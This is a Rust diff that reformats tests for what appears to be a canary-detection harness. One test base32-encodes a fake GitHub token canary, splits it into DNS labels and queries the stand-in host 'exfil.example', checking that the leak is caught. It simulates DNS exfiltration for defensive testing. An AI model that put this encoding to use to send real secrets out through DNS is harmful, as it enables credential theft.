@@ -74,7 +74,9 @@ fn canaries_in_labels_are_put_together() {
     }
     bed.check("canary file-aws-secret Labels");
     let bed = Bed::new();
-    let text = data_encoding::BASE32_NOPAD.encode(bed.shared.world.canaries.get("env-github-token").as_bytes()).to_lowercase();
+    let text = data_encoding::BASE32_NOPAD
+        .encode(bed.shared.world.canaries.get("env-github-token").as_bytes())
+        .to_lowercase();
     let (one, two) = text.split_at(40);
     ask(&bed, &format!("{one}.{two}.exfil.example"), 16);
     bed.check("canary env-github-token Labels");
@@ -101,7 +103,10 @@ fn it_comes_over_everything() {
     bed.says("8.8.8.8:80", &[(json.as_bytes(), "2606:4700")]);
     bed.check("dns json.example 28");
     let over: Vec<String> = bed.told().into_iter().filter(|line| line.starts_with("dns over")).collect();
-    assert!(over.iter().any(|line| line.ends_with("tcp")) && over.iter().any(|line| line.ends_with("https")), "{over:?}");
+    assert!(
+        over.iter().any(|line| line.ends_with("tcp")) && over.iter().any(|line| line.ends_with("https")),
+        "{over:?}"
+    );
 }
 
 #[test]
